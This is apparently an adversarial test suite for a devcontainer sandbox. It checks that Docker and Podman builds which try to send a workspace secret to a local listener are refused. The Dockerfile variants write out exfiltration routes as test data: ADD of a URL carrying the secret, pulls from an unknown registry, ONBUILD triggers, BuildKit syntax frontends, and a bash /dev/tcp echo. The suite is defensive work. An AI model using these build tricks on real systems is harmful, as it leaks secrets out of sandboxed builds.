/**
 * Round 4, finding 2: the "no network" devcontainer build only took the network from RUN steps. The
 * engine itself downloads `ADD <url>`, pulls a `FROM` (or `COPY --from`) image it lacks, and runs a
 * base image's ONBUILD triggers, in the daemon, on the host's network: a loopback origin on the
 * host got `GET /exfil?data=<workspace secret>`. Each spelling here goes through
 * `DockerSandbox.open` with the workspace's devcontainer.json; from the host, the origin (listening
 * on every address of the host) must never see a connection, and the build must be refused in one
 * line before it starts. A RUN step that tries the host's addresses builds, and reaches nothing.
 */
import { randomBytes } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import { createServer, type Server, type Socket } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import Docker from "dockerode";
import { pack } from "tar-stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadDevcontainer } from "../../../src/devcontainer/load-devcontainer.js";
import { ConfigError } from "../../../src/errors.js";
import { ensureSandboxImage } from "../../../src/sandbox/docker/container/image.js";
import { DockerSandbox } from "../../../src/sandbox/docker/docker-sandbox.js";
import { skipDocker } from "../../support/docker-available.js";
import { podman, skipPodman } from "../../support/podman-available.js";
import { makeWorkspace } from "../../support/workspace.js";

/** Every image a build of this file makes carries it, so the host can find (and remove) them. */
const BUILD_LABEL = "dev.harness.test-fetch";
const RUN_ID = `${process.pid}-${randomBytes(4).toString("hex")}`;
const SECRET = `workspace-secret-${randomBytes(6).toString("hex")}`;

/** An origin on every host address that counts connections and keeps the first request line. */
interface Origin {
  port: number;
  connections: number;
  requests: string[];
  server: Server;
}

async function startOrigin(): Promise<Origin> {
  const origin: Origin = { port: 0, connections: 0, requests: [], server: createServer() };
  origin.server.on("connection", (socket: Socket) => {
    origin.connections++;
    socket.once("data", (data: Buffer) => {
      origin.requests.push(data.toString("latin1").split("\r\n")[0] ?? "");
      socket.end("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    });
    socket.on("error", () => {});
  });
  await new Promise<void>((resolve) => origin.server.listen(0, "0.0.0.0", resolve));
  const address = origin.server.address();
  origin.port = typeof address === "object" && address !== null ? address.port : 0;
  return origin;
}

describe.skipIf(skipDocker)("adversarial: a devcontainer build fetching on the host's network", () => {
  const docker = new Docker();
  let origin: Origin;
  let base: string;
  /** An image on the engine whose ONBUILD trigger downloads from the origin. */
  let onbuildImage: string;

  beforeAll(async () => {
    origin = await startOrigin();
    base = await ensureSandboxImage(docker);
    onbuildImage = `harness-test-onbuild:${RUN_ID}`;
    const tar = pack();
    tar.entry(
      { name: "Dockerfile" },
      `FROM ${base}\nONBUILD ADD http://127.0.0.1:${origin.port}/onbuild?data=${SECRET} /onbuild\n`,
    );
    tar.finalize();
    const stream = await docker.buildImage(Readable.from(tar), { t: onbuildImage, networkmode: "none" });
    await new Promise((resolve, reject) =>
      docker.modem.followProgress(stream, (error: Error | null) => (error ? reject(error) : resolve(null))),
    );
    // Building the base runs no trigger: the origin is still untouched.
    expect(origin.connections).toBe(0);
  }, 120_000);

  afterAll(async () => {
    origin?.server.close();
    const built = await docker.listImages({ filters: { label: [`${BUILD_LABEL}=${RUN_ID}`] } });
    for (const image of built)
      await docker
        .getImage(image.Id)
        .remove({ force: true })
        .catch(() => {});
    if (onbuildImage)
      await docker
        .getImage(onbuildImage)
        .remove({ force: true })
        .catch(() => {});
  });

  /** Opens a sandbox from a devcontainer.json building `dockerfile`: the open's error, if any. */
  async function openWith(dockerfile: string, args: Record<string, string> = {}): Promise<unknown> {
    using ws = makeWorkspace("harness-devc-fetch-");
    const dir = join(ws.path, ".devcontainer");
    mkdirSync(dir);
    writeFileSync(join(ws.path, "secret.txt"), SECRET);
    writeFileSync(join(dir, "Dockerfile"), dockerfile);
    writeFileSync(
      join(dir, "devcontainer.json"),
      JSON.stringify({ build: { dockerfile: "Dockerfile", args } }),
    );
    const devcontainer = loadDevcontainer(ws.path, undefined);
    try {
      const sandbox = await DockerSandbox.open({ workspace: ws.path, devcontainer, removeOnStop: true });
      await sandbox.stop();
      return undefined;
    } catch (error) {
      return error;
    }
  }

  const url = (path: string) => `127.0.0.1:${origin.port}/${path}?data=${SECRET}`;
  const label = `LABEL ${BUILD_LABEL}=${RUN_ID}`;
  const variants: [string, () => string, (() => Record<string, string>)?][] = [
    ["ADD http://", () => `FROM ${base}\n${label}\nADD http://${url("exfil")} /x\n`],
    ["ADD https://", () => `FROM ${base}\n${label}\nADD https://${url("tls")} /x\n`],
    ["ADD https://….git", () => `FROM ${base}\n${label}\nADD https://${url("repo.git")} /src\n`],
    [
      "aDd with a line continuation",
      () => `FROM ${base}\n${label}\naDd \\\n  http://${url("odd")} \\\n  /x\n`,
    ],
    ["ADD in JSON form", () => `FROM ${base}\n${label}\nADD ["http://${url("json")}", "/x"]\n`],
    [
      "ADD $U from a global ARG",
      () => `ARG U=http://${url("arg")}\nFROM ${base}\n${label}\nARG U\nADD $U /x\n`,
    ],
    [
      `ADD \${U} from a stage ARG`,
      () => `FROM ${base}\n${label}\nARG U=http://${url("arg2")}\nADD \${U} /x\n`,
    ],
    [`ADD \${U} from ENV`, () => `FROM ${base}\n${label}\nENV U=http://${url("env")}\nADD \${U} /x\n`],
    [
      "ADD $U set by build.args",
      () => `FROM ${base}\n${label}\nARG U=/etc/hostname\nADD $U /x\n`,
      () => ({ U: `http://${url("build-args")}` }),
    ],
    ["FROM an image not on the engine", () => `FROM 127.0.0.1:${origin.port}/missing:1\n${label}\n`],
    [
      "FROM via ARG, in a later stage",
      () => `ARG R=127.0.0.1:${origin.port}\nFROM ${base} AS first\nFROM \${R}/later:1\n${label}\n`,
    ],
    [
      "COPY --from an image not on the engine",
      () => `FROM ${base}\n${label}\nCOPY --from=127.0.0.1:${origin.port}/img:1 /a /a\n`,
    ],
    ["FROM a base whose ONBUILD trigger downloads", () => `FROM ${onbuildImage}\n${label}\n`],
    [
      "RUN --mount=type=bind,from=",
      () =>
        `FROM ${base}\n${label}\nRUN --mount=type=bind,from=127.0.0.1:${origin.port}/img:1,target=/m true\n`,
    ],
    [
      "# syntax= (a BuildKit frontend)",
      () => `# syntax=127.0.0.1:${origin.port}/frontend:1\nFROM ${base}\n${label}\n`,
    ],
  ];

  for (const [name, dockerfile, args] of variants)
    it(`${name}: refused before the build, and the origin sees nothing`, async () => {
      const before = { connections: origin.connections, requests: origin.requests.length };
      const error = await openWith(dockerfile(), args?.() ?? {});
      expect({
        connections: origin.connections - before.connections,
        requests: origin.requests.slice(before.requests),
      }).toEqual({ connections: 0, requests: [] });
      expect(error).toBeInstanceOf(ConfigError);
      expect((error as Error).message).toMatch(
        /^devcontainer build refused before it started: .*Dockerfile:\d+: /,
      );
      expect((error as Error).message).not.toContain("\n");
      const built = await docker.listImages({ filters: { label: [`${BUILD_LABEL}=${RUN_ID}`] } });
      expect(built).toEqual([]);
    }, 120_000);

  it("a RUN step builds with no network: the host's addresses are out of its reach", async () => {
    const hosts = [
      "127.0.0.1",
      ...Object.values(networkInterfaces())
        .flat()
        .flatMap((a) => (a?.family === "IPv4" && !a.internal ? [a.address] : [])),
    ];
    const probe = hosts
      .map((h) => `python3 -c "import socket; socket.create_connection(('${h}', ${origin.port}), 3)" || true`)
      .join("; ");
    const before = origin.connections;
    const error = await openWith(
      `FROM ${base}\n${label}\nUSER root\nRUN ${probe}; ls /sys/class/net > /net\n`,
    );
    expect(error).toBeUndefined();
    expect(origin.connections - before).toBe(0);
    const [image] = await docker.listImages({ filters: { label: [`${BUILD_LABEL}=${RUN_ID}`] } });
    const container = await docker.createContainer({
      Image: image?.Id ?? "",
      Entrypoint: ["cat"],
      Cmd: ["/net"],
      NetworkDisabled: true,
    });
    try {
      const archive = await container.getArchive({ path: "/net" });
      let text = "";
      for await (const chunk of archive as NodeJS.ReadableStream)
        text += (chunk as Buffer).toString("latin1");
      expect(text).toContain("lo\n");
      expect(text).not.toMatch(/eth0|veth|docker/);
    } finally {
      await container.remove({ force: true });
      for (const built of await docker.listImages({ filters: { label: [`${BUILD_LABEL}=${RUN_ID}`] } }))
        await docker
          .getImage(built.Id)
          .remove({ force: true })
          .catch(() => {});
    }
  }, 180_000);
});

/**
 * Podman's API builds (4.3 here) run RUN steps in the host's network namespace whatever the network
 * mode asked: a workspace's RUN step reached the host's loopback. A `build` is refused there, before
 * anything is built; from the host, the origin sees nothing.
 */
describe.skipIf(skipPodman)("adversarial: a devcontainer build's RUN step on Podman", () => {
  it("is refused before it starts, and the host's loopback origin sees nothing", async () => {
    const origin = await startOrigin();
    try {
      using ws = makeWorkspace("harness-devc-podman-");
      mkdirSync(join(ws.path, ".devcontainer"));
      writeFileSync(
        join(ws.path, ".devcontainer", "Dockerfile"),
        `FROM debian:bookworm-slim\nRUN bash -c 'echo ${SECRET} > /dev/tcp/127.0.0.1/${origin.port}' || true\n`,
      );
      writeFileSync(
        join(ws.path, ".devcontainer", "devcontainer.json"),
        '{"build": {"dockerfile": "Dockerfile"}}',
      );
      const devcontainer = loadDevcontainer(ws.path, undefined);
      const error = await DockerSandbox.open({
        workspace: ws.path,
        devcontainer,
        docker: podman as Docker,
        removeOnStop: true,
      }).then(
        (sandbox) => sandbox.stop(),
        (caught: unknown) => caught,
      );
      expect(origin.connections).toBe(0);
      expect(error).toBeInstanceOf(ConfigError);
      expect((error as Error).message).toMatch(/'build' is refused on Podman/);
    } finally {
      origin.server.close();
    }
  }, 300_000);
});
